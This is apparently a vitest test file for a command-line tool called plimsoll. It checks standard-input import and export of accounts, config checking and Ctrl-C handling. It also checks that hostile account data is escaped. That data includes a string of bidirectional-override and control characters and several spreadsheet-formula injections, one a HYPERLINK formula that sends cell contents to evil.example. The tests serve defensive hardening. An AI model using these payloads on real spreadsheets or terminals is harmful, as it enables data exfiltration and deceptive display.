import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { NO_DAEMON, plimsoll, plimsollHere, run } from '../support/command.ts'
import { type Daemon, spawnDaemon } from '../support/daemon.ts'
import { connectAccount, eventually, freePort, refreshTokenFor, send } from '../support/fleet.ts'
import { MAIN } from '../support/main.ts'
import { openScene, type Scene } from '../support/scene.ts'

describe('manners', () => {
  /** What a program owes to a shell: signals, standard input and output, whole processes. Pipes: pipes.test.ts. */
  const HUB = 1234567

  let scene: Scene
  let config: string

  beforeAll(async () => {
    scene = await openScene({ accounts: 0, tokenLifetimeMs: 600_000, rotateRefreshTokens: false })
    config = await scene.configFile()
    for (const hubId of [HUB, HUB + 1]) {
      await send(`${scene.sandbox.url}/sandbox/accounts`, 'POST', { hubId, hubDomain: `n${hubId}.example.com` })
    }
  })
  afterAll(() => scene.close())

  async function* pipe(text: string): AsyncGenerator<Buffer> {
    yield Buffer.from(text)
  }

  describe('- in place of a file', () => {
    test('accounts import takes standard input, and export gives it to standard output alone', async () => {
      const token = await refreshTokenFor(scene.sandbox.url, HUB)
      const stdin = () => pipe(`hubId,refreshToken\n${HUB},${token}\n`)
      const imported = await plimsollHere(['accounts', 'import', '-', '-c', config], scene.folder, { stdin })
      expect(imported).toEqual({ code: 0, out: 'imported 1, kept 0, replaced 0, bad 0\n', err: '' })

      const csv = await plimsollHere(['accounts', 'export', '-', '-c', config], scene.folder)
      expect(csv.out).toMatch(/^hubId,hubDomain,state,user,contact,connectedAt,sealedRefreshToken\n1234567,[^\n]*\n$/)
      expect(csv.err).toMatch(/^exported 1 live account to standard output/)
      const lines = await plimsollHere(['accounts', 'export', '-', '--format', 'jsonl', '-c', config], scene.folder)
      expect(JSON.parse(lines.out)).toMatchObject({ hubId: HUB })
      const again = await plimsollHere(['accounts', 'import', '-', '-c', config], scene.folder, {
        stdin: () => pipe(lines.out),
      })
      expect(again.out).toBe('imported 0, kept 1, replaced 0, bad 0\n')
    })

    test('bad lines of standard input are named, and what is none at all is refused', async () => {
      const feed = (text: string) =>
        plimsollHere(['accounts', 'import', '-', '-c', config], scene.folder, { stdin: () => pipe(text) })
      expect(await feed('hubId,refreshToken\nx,y\n')).toMatchObject({
        code: 1,
        err:
          'line 2 has a hubId that is no whole number\n' +
          'plimsoll: standard input has 1 bad line; the others are in\n',
      })
      expect((await feed('')).err).toBe("plimsoll: standard input can't be imported: it is empty\n")
    })

    test('config check reads a file that is piped in', async () => {
      const check = (text: string) => plimsollHere(['config', 'check', '-'], scene.folder, { stdin: () => pipe(text) })
      expect(await check('treshold: 3\n')).toMatchObject({
        code: 1,
        out: expect.stringContaining('standard input:1:1 treshold: unknown'),
      })
      const piped = await run(
        'sh',
        ['-c', `'${process.execPath}' '${MAIN}' config check - < '${config}'`],
        scene.folder,
      )
      expect(piped).toMatchObject({ code: 0, out: expect.stringContaining('standard input is fine') })
    })
  })

  test('Ctrl-C ends work in hand with 130, in one line that says what was done', async ({ onTestFinished }) => {
    writeFileSync(join(scene.folder, 'token.txt'), await refreshTokenFor(scene.sandbox.url, HUB))
    await plimsollHere(['accounts', 'connect', '--refresh-token-file', 'token.txt', '-c', config], scene.folder)
    const { url, asked } = await silentProvider(onTestFinished)
    const slow = await scene.configFile({ provider: { baseUrl: url, timeout: '2s' } })
    const child = spawn(process.execPath, [MAIN, 'accounts', 'poll', String(HUB), '-c', slow], { cwd: scene.folder })
    const said = { out: '', err: '' }
    child.stdout.on('data', (data) => (said.out += data))
    child.stderr.on('data', (data) => (said.err += data))
    await asked
    child.kill('SIGINT')
    const [code] = await once(child, 'close')
    expect({ code, err: said.err }).toEqual({
      code: 130,
      err: `${NO_DAEMON}plimsoll: 1 of 1 account could not be read, or not all of it\n`,
    })
    expect(said.out).toMatch(/failed .*stopped/)
  })

  /** One that takes every request and answers none. */
  async function silentProvider(onTestFinished: (work: () => void) => void) {
    const server = createServer()
    const asked = once(server, 'request')
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    onTestFinished(() => {
      server.closeAllConnections()
      server.close()
    })
    return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked }
  }
})

describe('text of strangers', () => {
  /** What moves a cursor or changes the order of what stands around it: C1, delete, all that says which way letters run. */
  const UNSEEN = /[\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/
  const HOSTILE = 'a\u009b1m\u0085b\u202eevil\u2066x\u200f\u200e\u061c\u2069'
  /** By hubId: what a sheet would calculate, also after an apostrophe of its own. */
  const FORMULAS: Record<number, string> = {
    502: '=HYPERLINK("https://evil.example/?a="&A1;"x")',
    503: '+1,-2;＝3',
    504: "'@SUM(A1)",
    505: 'acme.example.com',
  }

  let scene: Scene
  let file: string
  const daemons: Daemon[] = []
  beforeAll(async () => {
    scene = await openScene({ accounts: 0, tokenLifetimeMs: 3_600_000 })
    for (const [hubId, hubDomain] of Object.entries({ 501: HOSTILE, 601: HOSTILE, ...FORMULAS })) {
      await send(`${scene.sandbox.url}/sandbox/accounts`, 'POST', { hubId: Number(hubId), hubDomain })
    }
    file = await scene.configFile()
  })
  afterAll(async () => {
    await Promise.all(daemons.map((daemon) => daemon.stop()))
    await scene.close()
  })

  /** Its log as it is told to write it. Waits until it has connected these accounts: v1 names their domains at once. */
  async function daemonThatConnects(hubIds: readonly number[], log: object): Promise<string> {
    const port = await freePort()
    const listen = { listen: `127.0.0.1:${port}`, publicUrl: `http://127.0.0.1:${port}` }
    const daemon = spawnDaemon(await scene.configFile({ log, http: listen, provider: { api: 'v1' } }))
    daemons.push(daemon)
    await daemon.line(/Plimsoll is running/, 0)
    for (const hubId of hubIds) await connectAccount(listen.publicUrl, hubId)
    const connected = () => daemon.lines.filter((line) => line.includes('account connected'))
    await eventually('the accounts', async () => connected().length === hubIds.length)
    return connected().join('\n')
  }

  test('a log of JSON escapes them, and they are still there', async () => {
    const text = await daemonThatConnects([501, 502, 503, 504, 505], {})
    expect(text).not.toMatch(UNSEEN)
    expect(JSON.parse(text.split('\n')[0] ?? '')).toMatchObject({ hubId: 501, hubDomain: HOSTILE })
  })

  test('so does one for people', async () => {
    const text = await daemonThatConnects([601], { pretty: true })
    expect(text).not.toMatch(UNSEEN)
    expect(text).toContain('evil')
    expect(text).toContain('u202e')
  })

  test('--json and JSON lines escape them, and say the same', async () => {
    const said = (...args: string[]) => plimsoll([...args, '--config', file], scene.folder)
    for (const args of [
      ['accounts', 'list', '--json'],
      ['accounts', 'show', '501', '--json'],
      ['accounts', 'history', '501', '--json'],
      ['check', '--json', '--all'],
    ]) {
      const { out } = await said(...args)
      expect(out, args.join(' ')).not.toMatch(UNSEEN)
      JSON.parse(out)
      expect(out, args.join(' ')).toContain('\\u202e')
    }
    const { out } = await said('accounts', 'list', '--json')
    const listed = JSON.parse(out) as { hubId: number; hubDomain: string }[]
    expect(listed.find(({ hubId }) => hubId === 501)?.hubDomain).toBe(HOSTILE)
  })

  test.each(['csv', 'jsonl'])('an export as %s is imported as it was, and is no formula in a sheet', async (format) => {
    const name = `out.${format}`
    await plimsoll(['accounts', 'export', name, '--config', file], scene.folder)
    const text = readFileSync(join(scene.folder, name), 'utf8')
    expect(text).not.toMatch(UNSEEN)
    if (format === 'csv') {
      const cells = (parse(text) as string[][]).flat()
      expect(cells.length).toBeGreaterThan(30)
      expect(cells.filter((cell) => /(^|;)[\s"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
    }
    const prefix = `moved-${format}`
    const there = await scene.configFile({
      dataDir: join(scene.folder, prefix),
      redis: { url: scene.redis.url, prefix },
    })
    const moved = await plimsoll(['accounts', 'import', name, '--json', '--config', there], scene.folder)
    expect(JSON.parse(moved.out)).toMatchObject({ imported: 6, bad: 0 })
    const { out } = await plimsoll(['accounts', 'list', '--json', '--config', there], scene.folder)
    const listed = JSON.parse(out) as { hubId: number; hubDomain: string }[]
    expect(listed).toEqual(
      expect.arrayContaining(
        Object.entries(FORMULAS).map(([hubId, hubDomain]) =>
          expect.objectContaining({ hubId: Number(hubId), hubDomain }),
        ),
      ),
    )
  })
})
